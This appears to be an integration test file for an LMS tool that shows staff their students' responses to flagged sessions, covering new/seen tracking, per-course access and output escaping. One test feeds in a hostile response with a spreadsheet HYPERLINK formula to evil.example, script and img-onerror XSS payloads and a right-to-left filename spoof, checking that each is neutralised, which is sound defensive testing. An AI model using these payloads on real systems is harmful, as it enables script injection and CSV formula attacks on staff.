/**
 * What staff see of students' responses (docs/product.md "Student responses", docs/lists.md "Course roster"), over real
 * HTTP and real PostgreSQL through the LMS emulator: students answer their own flagged sessions through the real form
 * (`POST /me/sessions/:id/response`), and the course's instructor and TA see each response marked new on the roster (the
 * triage line, the learner's row, the `responses=new` filter, the JSON and the CSV) and on the learner page, beside the
 * flags on the session page, in review.json, the session exports and the case packet. Opening the learner page marks
 * them seen for that course only: another course sharing the learner still counts them new, and staff of a course
 * without the learner get 403. Hostile text is escaped on every page and defused in the CSV.
 */
import crypto from 'node:crypto';
import { sql } from 'kysely';
import { startStack, type Stack } from '../../src/dev/stack';
import { createLogger } from '../../src/log';
import { openDatabase, type Store } from '../../src/store';
import { csrfTokens } from '../../src/web/csrf';
import { parseCsv } from '../support/csv';
import { freshDatabaseUrl } from '../support/db';
import { decodeEntities, textOf } from '../support/stack';
import { toolClient, type Who } from '../support/tool';

const logger = createLogger(process.env.TEST_LOG_LEVEL ?? 'silent');
const encryptionKey = crypto.randomBytes(32).toString('base64url');
const tokens = csrfTokens(encryptionKey);
let stack: Stack;
let db: Store;

const { launch, page } = toolClient(() => stack);
let teacher: Who, ta: Who, bigTeacher: Who, lti101Teacher: Who, histTeacher: Who;
/** Canvas BIO 101: the learner who answers, and another who answers with hostile text. */
let learner: string, hostileLearner: string;
/** Moodle: a learner of both LTI101 and HIST210, and one of LTI101 only. */
let shared: string;
const LTI101_ONLY = '4';

async function json<T>(who: Who, path: string, params: Record<string, string> = {}) {
  const res = await page(who, path, params);
  expect(res.status).toBe(200);
  return JSON.parse(res.html) as T;
}

/** A learner's newest flagged session on the first page of their sessions (25, newest first). */
function flaggedSession(userId: string): string {
  const newest = [...stack.simulator.dataset.sessionsForUser(userId)].sort((a, b) => (a.createdAt < b.createdAt ? 1 : -1)).slice(0, 25);
  const s = newest.find((x) => x.detectionFlags.length > 0);
  if (!s) throw new Error(`no flagged session for ${userId}`);
  return s.id;
}

/** The student answers their own session through the real form: 303, then their session page. */
async function answer(student: Who, sessionId: string, text: string) {
  const res = await student.browser.post(new URL(`/me/sessions/${encodeURIComponent(sessionId)}/response`, stack.tool.url).href, {
    ltik: student.ltik,
    response: text,
    csrf: tokens.tokenFor(student.ltik),
  });
  expect(res.history[0]!.status).toBe(303);
  expect(res.status).toBe(200);
}

/** The roster as one staff member sees it: the triage line's responses count, and each row's marker by user id. */
async function roster(who: Who, params: Record<string, string> = {}) {
  const res = await page(who, '/course', params);
  expect(res.status).toBe(200);
  const triage = /<(li|p)[^>]*data-testid="triage-responses"[^>]*>([\s\S]*?)<\/\1>/.exec(res.html);
  const rows = new Map(
    [...res.html.matchAll(/<tr data-user-id="([^"]*)">([\s\S]*?)<\/tr>/g)].map((m) => [
      m[1]!,
      /data-testid="new-responses">([^<]*)</.exec(m[2]!)?.[1] ?? null,
    ]),
  );
  return { html: res.html, triage: triage ? textOf(triage[2]!).replace(/\s+,/g, ',') : null, rows };
}

type Item = { userId: string; newResponses: number };
const rosterJson = async (who: Who, params: Record<string, string> = {}) =>
  (await json<{ items: Item[] }>(who, '/course.json', params)).items;
const newOf = async (who: Who, userId: string) => (await rosterJson(who)).find((i) => i.userId === userId)?.newResponses;

/** The responses on a staff page (learner or session): their ids, text and whether each is marked New. */
function responsesOn(html: string) {
  const section = /<section class="student-responses"[\s\S]*?<\/section>/.exec(html)?.[0] ?? '';
  return [...section.matchAll(/<li data-response-id="(\d+)"([^>]*)>([\s\S]*?)<\/li>/g)].map((m) => ({
    id: m[1]!,
    isNew: m[2]!.includes('data-new="true"'),
    newWord: /data-testid="response-new">New</.test(m[3]!),
    // As written, line breaks included (the text is escaped and holds no markup).
    text: decodeEntities(/<div class="review-text response-text" dir="auto">([\s\S]*?)<\/div>/.exec(m[3]!)?.[1] ?? ''),
    meta: textOf(/<p class="review-meta">([\s\S]*?)<\/p>/.exec(m[3]!)?.[1] ?? ''),
  }));
}

interface ResponseJson {
  id: string;
  sessionId: string;
  at: string;
  body: string;
  author: { name: string; lmsUserId: string };
  new: boolean;
}

beforeAll(async () => {
  const databaseUrl = await freshDatabaseUrl('responses_staff');
  // Rosters under 50 learners (no progress line); BIG 1000 (course 900) has Theo Lindqvist and three other learners.
  stack = await startStack({
    databaseUrl,
    logger,
    encryptionKey,
    worldOptions: { moodleExtraLearners: 30, moodleSecondCourseLearners: 25, canvasLearners: 24, bigCourseLearners: 3 },
  });
  db = await openDatabase({ url: databaseUrl });
  const withFlags = (id: string) => stack.simulator.dataset.sessionsForUser(id).some((s) => s.detectionFlags.length > 0);
  const bio = stack.world.platforms.find((p) => p.kind === 'canvas')!.courses.find((c) => c.id === '101')!;
  const bioLearners = bio.members
    .filter((m) => m.role === 'learner' && m.status !== 'Inactive')
    .map((m) => m.person.lmsUserId)
    .filter(withFlags);
  [learner, hostileLearner] = bioLearners as [string, string];
  const moodle = stack.world.platforms.find((p) => p.kind === 'moodle')!;
  const histIds = new Set(moodle.courses.find((c) => c.id === '3')!.members.map((m) => m.person.lmsUserId));
  const hist = moodle.courses.find((c) => c.id === '3')!;
  shared = moodle.courses
    .find((c) => c.id === '2')!
    .members.filter((m) => m.role === 'learner' && histIds.has(m.person.lmsUserId))
    .map((m) => m.person.lmsUserId)
    .find(withFlags)!;
  expect(shared).toBeDefined();
  expect(histIds.has(LTI101_ONLY)).toBe(false);
  const histTeacherId = hist.members.find((m) => m.role === 'instructor')!.person.lmsUserId;
  [teacher, ta, bigTeacher, lti101Teacher, histTeacher] = await Promise.all([
    launch('canvas', '101', '20001'),
    launch('canvas', '101', '20002'),
    launch('canvas', '900', '20001'),
    launch('moodle', '2', '3'),
    launch('moodle', '3', histTeacherId),
  ]);
});
afterAll(async () => {
  await stack?.stop();
  await db?.close();
});

test('a student answers a flagged session: the instructor and the TA see it new until a staff member of the course opens the learner', async () => {
  const student = await launch('canvas', '101', learner);
  const sessionId = flaggedSession(learner);
  const first = 'I use dictation software; the typing bursts are the dictation.\nMy accommodation letter is on file.';
  await answer(student, sessionId, first);

  // Both see it new on the roster: the triage line (linking to the filtered roster) and the learner's row.
  for (const who of [teacher, ta]) {
    const r = await roster(who);
    expect(r.triage).toBe('1 new response from 1 learner, not yet seen by this course’s staff');
    expect(r.rows.get(learner)).toBe('1 new response');
    expect([...r.rows].filter(([, marker]) => marker !== null)).toHaveLength(1);
    expect(r.html).toMatch(/data-testid="triage-responses"><a href="\/course\?responses&#x3D;new&amp;/);
    expect(await newOf(who, learner)).toBe(1);
  }
  // The filter lists only learners with new responses; the CSV carries the count.
  const filtered = await roster(ta, { responses: 'new' });
  expect([...filtered.rows.keys()]).toEqual([learner]);
  const csv = parseCsv((await page(ta, '/course.csv')).html);
  const col = csv[0]!.indexOf('new_responses');
  expect(csv[0]!.at(-1)).toBe('new_responses');
  const uid = csv[0]!.indexOf('user_id');
  expect(csv.slice(1).find((row) => row[uid] === learner)![col]).toBe('1');
  expect(csv.slice(1).find((row) => row[uid] === hostileLearner)![col]).toBe('0');
  expect((await page(ta, '/course', { responses: 'old' })).status).toBe(422);

  // The session page shows it beside the flags, as new; reading it there marks nothing seen.
  const session = await page(ta, `/learners/${learner}/sessions/${sessionId}`);
  expect(session.status).toBe(200);
  const onSession = responsesOn(session.html);
  expect(onSession).toEqual([
    { id: expect.any(String), isNew: true, newWord: true, text: first, meta: expect.stringContaining('(the learner)') },
  ]);
  expect(session.html.indexOf('id="student-responses"')).toBeGreaterThan(session.html.indexOf('id="signals"'));
  expect(await newOf(teacher, learner)).toBe(1);

  // review.json carries it, new to this course, and reading it marks nothing seen either.
  const review = await json<{ responses: ResponseJson[] }>(teacher, `/learners/${learner}/review.json`);
  expect(review.responses).toEqual([
    {
      id: onSession[0]!.id,
      sessionId,
      at: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
      body: first,
      author: { name: expect.any(String), lmsUserId: learner },
      new: true,
    },
  ]);

  // The instructor opens the learner: the response is there, marked New, linking to its session; the table counts it.
  const opened = await page(teacher, `/learners/${learner}`);
  expect(opened.status).toBe(200);
  expect(responsesOn(opened.html)).toEqual([expect.objectContaining({ isNew: true, newWord: true, text: first })]);
  expect(opened.html).toContain(`<div class="review-text response-text" dir="auto">`);
  expect(opened.html).toMatch(
    new RegExp(`on session <a href="/learners/${learner}/sessions/${sessionId}\\?ltik&#x3D;[^"]*#student-responses"><code>`),
  );
  expect(opened.html).toMatch(
    /data-testid="student-responses-new-text">1 new response since this course’s staff last opened the learner\./,
  );
  const row = new RegExp(`<tr data-session-id="${sessionId}">([\\s\\S]*?)</tr>`).exec(opened.html)![1]!;
  expect(textOf(/data-testid="session-responses">([\s\S]*?)<\/p>/.exec(row)![1]!)).toBe(
    `1 response to the session started ${textOf(/<time[^>]*>([^<]*)</.exec(row)![1]!)} 1 new`,
  );

  // Seen for the course: the TA's roster no longer counts it, and the TA's learner page shows it, not as new.
  const after = await roster(ta);
  expect(after.triage).toBeNull();
  expect(after.rows.get(learner)).toBeNull();
  expect(await newOf(ta, learner)).toBe(0);
  expect((await rosterJson(ta, { responses: 'new' })).map((i) => i.userId)).toEqual([]);
  expect(responsesOn((await page(ta, `/learners/${learner}`)).html)).toEqual([expect.objectContaining({ isNew: false, newWord: false })]);
  expect((await json<{ responses: ResponseJson[] }>(ta, `/learners/${learner}/review.json`)).responses[0]!.new).toBe(false);

  // A second response: new again, to both; the TA opens the learner this time, and the instructor's count goes with it.
  const second = 'Second thought: the pointer did not move because I use the keyboard only.';
  await answer(student, sessionId, second);
  expect((await roster(teacher)).rows.get(learner)).toBe('1 new response');
  const taOpens = responsesOn((await page(ta, `/learners/${learner}`)).html);
  // Newest first.
  expect(taOpens.map((r) => [r.text, r.isNew])).toEqual([
    [second, true],
    [first, false],
  ]);
  expect(await newOf(teacher, learner)).toBe(0);
  expect((await roster(teacher)).triage).toBeNull();

  // The staff's session exports carry the responses; the student's own do not.
  const exportCsv = parseCsv((await page(teacher, `/learners/${learner}/sessions.csv`)).html);
  const h = exportCsv[0]!;
  expect(h.slice(-3)).toEqual(['student_response_count', 'latest_student_response', 'latest_student_response_at']);
  const line = exportCsv.slice(1).find((r) => r[h.indexOf('session_id')] === sessionId)!;
  expect(line.slice(-3)).toEqual(['2', second, expect.stringMatching(/^\d{4}-/)]);
  const exportJson = await json<{ items: Array<{ id: string; studentResponses?: ResponseJson[] }> }>(
    teacher,
    `/learners/${learner}/sessions.json`,
  );
  expect(exportJson.items.find((i) => i.id === sessionId)!.studentResponses!.map((r) => [r.body, r.new])).toEqual([
    [first, false],
    [second, false],
  ]);
  expect(exportJson.items.filter((i) => i.id !== sessionId).every((i) => i.studentResponses!.length === 0)).toBe(true);
  const own = await page(student, `/learners/${learner}/sessions.csv`);
  expect(own.status).toBe(200);
  expect(parseCsv(own.html)[0]).not.toContain('student_response_count');
  const ownJson = JSON.parse((await page(student, `/learners/${learner}/sessions.json`)).html) as { items: Array<Record<string, unknown>> };
  expect(ownJson.items.some((i) => 'studentResponses' in i)).toBe(false);

  // The seen marker is the course's: one row, at the newest response.
  const { rows } = await sql<{ context_id: string; seen_through: string }>`
    SELECT context_id, seen_through::text FROM response_seen WHERE user_id = ${learner}`.execute(db.db);
  expect(rows).toEqual([{ context_id: expect.any(String), seen_through: taOpens[0]!.id }]);
});

test('another course sharing the learner still counts the response new; a course without the learner gets 403', async () => {
  const student = await launch('moodle', '2', shared);
  const sessionId = flaggedSession(shared);
  await answer(student, sessionId, 'My cat walked over the keyboard during quiz 4.');

  // Both courses' staff see it new; the LTI101 instructor opens the learner.
  expect(await newOf(lti101Teacher, shared)).toBe(1);
  expect(await newOf(histTeacher, shared)).toBe(1);
  const opened = await page(lti101Teacher, `/learners/${shared}`);
  expect(responsesOn(opened.html)).toEqual([expect.objectContaining({ isNew: true })]);
  expect(await newOf(lti101Teacher, shared)).toBe(0);

  // HIST210's staff have not seen it: still new on their roster and in their review.json.
  expect(await newOf(histTeacher, shared)).toBe(1);
  expect((await roster(histTeacher)).triage).toBe('1 new response from 1 learner, not yet seen by this course’s staff');
  const hist = await json<{ responses: ResponseJson[] }>(histTeacher, `/learners/${shared}/review.json`);
  expect(hist.responses.map((r) => [r.body, r.new])).toEqual([['My cat walked over the keyboard during quiz 4.', true]]);

  // An instructor of a course without the learner: 403 on the learner page and on review.json, nothing shown.
  const other = await launch('moodle', '2', LTI101_ONLY);
  await answer(other, stack.simulator.dataset.sessionsForUser(LTI101_ONLY)[0]!.id, 'Only LTI101 may read this.');
  for (const path of [`/learners/${LTI101_ONLY}`, `/learners/${LTI101_ONLY}/review.json`, `/learners/${LTI101_ONLY}/packet`]) {
    const res = await page(histTeacher, path);
    expect([path, res.status]).toEqual([path, 403]);
    expect(res.html).not.toContain('Only LTI101 may read this.');
  }
  // Canvas: Theo Lindqvist launched from BIG 1000 is not staff of BIO 101's learner.
  for (const path of [`/learners/${learner}`, `/learners/${learner}/review.json`]) {
    const res = await page(bigTeacher, path);
    expect([path, res.status]).toEqual([path, 403]);
    expect(res.html).not.toContain('dictation');
  }
  // And nothing was marked seen by the refused views.
  expect(await newOf(lti101Teacher, LTI101_ONLY)).toBe(1);
});

test('hostile text in a response is escaped on every staff page and in the packet, and defused in the CSV', async () => {
  const student = await launch('canvas', '101', hostileLearner);
  const sessionId = flaggedSession(hostileLearner);
  const hostile = '=HYPERLINK("http://evil.example/?x","click") <script>alert(1)</script> "><img src=x onerror=alert(1)> \u202Egnp.exe';
  await answer(student, sessionId, hostile);
  const shownText = hostile.replace('\u202E', '');

  const pages = {
    learner: (await page(teacher, `/learners/${hostileLearner}`)).html,
    session: (await page(teacher, `/learners/${hostileLearner}/sessions/${sessionId}`)).html,
    packet: (await page(teacher, `/learners/${hostileLearner}/packet`)).html,
    roster: (await page(teacher, '/course')).html,
  };
  for (const [name, html] of Object.entries(pages)) {
    expect([name, html.includes('<script>alert(1)')]).toEqual([name, false]);
    expect([name, html.includes('<img src=x')]).toEqual([name, false]);
    expect([name, html.includes('\u202E')]).toEqual([name, false]);
  }
  expect(responsesOn(pages.learner).map((r) => r.text)).toEqual([shownText]);
  expect(responsesOn(pages.session).map((r) => r.text)).toEqual([shownText]);
  expect(pages.learner).toContain('&lt;script&gt;alert(1)&lt;/script&gt; &quot;&gt;&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt;');

  // The packet: beside the session in its table, and in its "Student responses" section, with who and when.
  const packetRow = new RegExp(`<tr data-session-id="${sessionId}">([\\s\\S]*?)</tr>`).exec(pages.packet)![1]!;
  expect(textOf(/<td data-testid="session-responses">([\s\S]*?)<\/td>/.exec(packetRow)![1]!)).toMatch(
    new RegExp(`^By .+ \\(the learner\\), .+ UTC : ${escapeRegExp(shownText)}$`),
  );
  const section = /<section class="packet-part packet-responses"[\s\S]*?<\/section>/.exec(pages.packet)![0];
  // The text without the spaces tags leave before punctuation.
  const said = textOf(section).replace(/ ([,)])/g, '$1');
  expect(said).toContain(`On session ${sessionId}, by`);
  expect(said).toContain(`(the learner, LMS user id ${hostileLearner})`);
  expect(said).toContain(shownText);
  expect(section).toContain('<p class="packet-text" dir="auto">');

  // The CSV: the formula is defused (a leading apostrophe) and the override dropped.
  const csv = parseCsv((await page(teacher, `/learners/${hostileLearner}/sessions.csv`)).html);
  const line = csv.slice(1).find((r) => r[csv[0]!.indexOf('session_id')] === sessionId)!;
  expect(line[csv[0]!.indexOf('latest_student_response')]).toBe(`'${shownText}`);

  // The JSON carries the text exactly as written (a JSON string cannot run).
  const review = await json<{ responses: ResponseJson[] }>(teacher, `/learners/${hostileLearner}/review.json`);
  expect(review.responses.map((r) => r.body)).toEqual([hostile]);
});

function escapeRegExp(s: string): string {
  return s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
